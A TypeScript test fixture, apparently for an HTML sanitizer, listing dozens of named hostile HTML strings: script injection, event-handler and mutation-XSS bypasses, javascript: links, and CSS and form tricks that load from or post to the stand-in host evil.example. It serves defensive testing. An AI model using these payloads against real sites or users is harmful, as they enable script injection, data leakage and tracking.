/** HTML that tries to run script, to load, to leave the frame; by what it tries. Each `evil.example` is a trap. */
export const HOSTILE_HTML: Readonly<Record<string, string>> = {
  script: '<script>alert(1)</script><script src="https://evil.example/x.js"></script>',
  'script of another message': '<script src="/api/v1/instances/default/messages/x/raw"></script>',
  'event handlers':
    '<body onload="alert(1)"><img src=x onerror=alert(1)><p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  'svg onload':
    '<svg/onload=alert(1)><svg><script>alert(1)</script></svg><svg><image href="https://evil.example/a.svg"/></svg>',
  'svg animate':
    '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text y=20>x</text></a></svg>',
  xmp: '<xmp><img onerror=alert(1) src=x></xmp>',
  noscript: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  template:
    '<template><script>alert(1)</script></template><template shadowrootmode="open"><img src=x onerror=alert(1)></template>',
  'mutation in math':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  'mutation in svg': '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  'mutation by form': '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  'title as attribute': '<p title="</p><img src=x onerror=alert(1)>">x</p>',
  'entity in text': '&lt;img src=x onerror=alert(1)&gt;&#60;script&#62;alert(1)&#60;/script&#62;',
  'style end': '<style>a{content:"</style><img src=x onerror=alert(1)>"}</style>',
  'style end in comment': '<style>/*</style><img src=x onerror=alert(1)>*/</style>',
  'style end by escape': '<style>a{background:url("\\3c/style>\\3cimg src=x onerror=alert(1)>")}</style>',
  'style deeper than the nesting limit': `${'<div>'.repeat(600)}<style><img src=x onerror=alert(1)></style>`,
  'comment end': '<!--[if IE]><script>alert(1)</script><![endif]--><!--><img src=x onerror=alert(1)>-->',
  cdata: '<![CDATA[<img src=x onerror=alert(1)>]]><?xml version="1.0"?><!ENTITY x "y">',
  refresh:
    '<meta http-equiv=refresh content="0;url=https://evil.example/"><meta http-equiv="Set-Cookie" content="a=b">',
  policy: '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  base: '<base href="https://evil.example/"><base target=_top><a href="x">x</a><img src="x.png">',
  form: '<form action="https://evil.example/" method=post><input name=a value=b><button formaction="https://evil.example/">go</button><input type=image src="https://evil.example/i.png"><input type=password autofocus></form>',
  iframe:
    '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><iframe><img src=x onerror=alert(1)></iframe>',
  frameset: '<frameset><frame src="https://evil.example/"></frameset>',
  'object and embed':
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf"><applet code=x></applet>',
  link: '<link rel=stylesheet href="https://evil.example/x.css"><link rel=prefetch href="https://evil.example/p"><link rel=dns-prefetch href="//evil.example">',
  'css url':
    '<style>body{background:url(https://evil.example/a.png)} p{list-style:url("https://evil.example/b.png")}</style><p style="background-image:url(https://evil.example/c.png)">x</p>',
  'css import':
    '<style>@import "https://evil.example/a.css"; @import url(https://evil.example/b.css) screen;</style>',
  'css escapes':
    '<style>@\\69mport "https://evil.example/a.css"; p{background:u\\72l(https://evil.example/b.png)} p{background:\\75 rl("https://evil.example/c.png")}</style><p>x</p>',
  'css image-set':
    '<p style="background-image:image-set(\'https://evil.example/a.png\' 1x);background:-webkit-image-set(url(https://evil.example/b.png) 1x)">x</p>',
  'css font':
    '<style>@font-face{font-family:f;src:url(https://evil.example/f.woff)} p{font-family:f}</style><p>x</p>',
  'css variable': '<style>:root{--u:url(https://evil.example/a.png)} p{background:var(--u)}</style><p>x</p>',
  'css cursor and content':
    '<style>p{cursor:url(https://evil.example/c.cur),auto} p::before{content:url(https://evil.example/d.png)}</style><p>x</p>',
  'css unclosed': '<style>p{background:url(https://evil.example/a.png',
  'css by attribute quotes':
    '<p style="background:url(&quot;https://evil.example/a.png&quot;)">x</p><p style=\'background:url("https://evil.example/b.png\')>x</p>',
  'css running':
    '<p style="width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(https://evil.example/x.xml#a)">x</p>',
  'remote picture':
    '<img src="https://evil.example/pixel.gif"><img src="//evil.example/p.gif"><img src="\\\\evil.example\\p.gif"><img src=" \thttps://evil.example/q.gif">',
  'picture sets':
    '<img srcset="https://evil.example/a.png 2x"><picture><source srcset="https://evil.example/b.png"><img src=x></picture>',
  'other loading attributes':
    '<table background="https://evil.example/a.png"><tr><td background="//evil.example/b.png">x</td></tr></table><video poster="https://evil.example/p.png" src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/a.mp3"></audio><img lowsrc="https://evil.example/l.png" dynsrc="https://evil.example/d.png" longdesc="https://evil.example/x">',
  'own pages as pictures':
    '<img src="/api/v1/instances"><img src="x.png"><img src="?delete"><td background="/api">',
  'data documents':
    '<img src="data:image/svg+xml,<svg onload=alert(1)>"><a href="data:text/html,<script>alert(1)</script>">x</a><img src="data:text/html;base64,PHNjcmlwdD4=">',
  'script links':
    '<a href="javascript:alert(1)">x</a><a href=" java\nscript:alert(1)">x</a><a href="&#106;avascript:alert(1)">x</a><a href="vbscript:x">x</a><a href="JaVaScRiPt&colon;alert(1)">x</a><area href="javascript:alert(1)">',
  'links into our pages':
    '<a href="/api/v1/instances">x</a><a href="?x">x</a><a href="..">x</a><a target=_top href="//evil.example/">x</a>',
  ping: '<a href="https://evil.example/" ping="https://evil.example/ping">x</a>',
  manifest: '<html manifest="https://evil.example/m"><head profile="https://evil.example/p">',
  'attribute breaking':
    '<img alt="&quot;><script>alert(1)</script>" src=x><img alt=`><script>alert(1)</script>` src=x>',
  'broken tags':
    '<img src=x onerror=alert(1)//<script>alert(1)<<script>alert(1)//</script><img/src=x/onerror=alert(1)>',
  'null bytes': '<scr\0ipt>alert(1)</scr\0ipt><img sr\0c=x one\0rror=alert(1)>',
  textarea: '<textarea><img src=x onerror=alert(1)></textarea/><title><img src=x onerror=alert(1)></title>',
  select: '<select><option><style></option></select><img src=x onerror=alert(1)></style></select>',
  plaintext: '<plaintext><img src=x onerror=alert(1)>',
  'namespaced tags':
    '<svg:script>alert(1)</svg:script><x:img src=x onerror=alert(1)><o:p onclick=alert(1)>x</o:p>',
  'popover and details':
    '<details open ontoggle=alert(1)>x</details><div popover onbeforetoggle=alert(1)>x</div><dialog open onclose=alert(1)>x</dialog>',
  marquee:
    '<marquee onstart=alert(1)>x</marquee><input autofocus onfocus=alert(1)><video><source onerror=alert(1)></video>',
}
